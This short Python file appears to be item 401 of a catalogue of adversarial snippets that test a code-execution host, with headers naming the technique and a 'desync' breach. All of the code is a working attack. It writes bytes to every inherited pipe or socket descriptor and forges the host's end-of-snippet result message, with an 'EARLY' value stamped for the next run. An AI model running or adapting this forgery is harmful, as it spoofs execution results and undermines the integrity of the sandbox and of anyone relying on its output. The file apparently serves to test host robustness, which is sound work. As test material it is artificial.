# id: 401
# name: next_end_forged_ahead
# category: protocol
# technique: the end of a snippet that the host hasn't sent yet
# breach: desync
# looks_like: the next step answers with this one's forgery
# baseline: credulous
import os, stat


def spray(data):
    """To whatever leads out of this process."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def message(text, *blobs):
    header = text.encode()
    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)


def done(value, *blobs):
    """The end of this snippet, forged, with a value in the kernel's own notation."""
    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)


spray(message(RESULT_TMPL.replace('@@', '"EARLY"').replace('"n": %d' % RUN, '"n": %d' % (RUN + 1))))
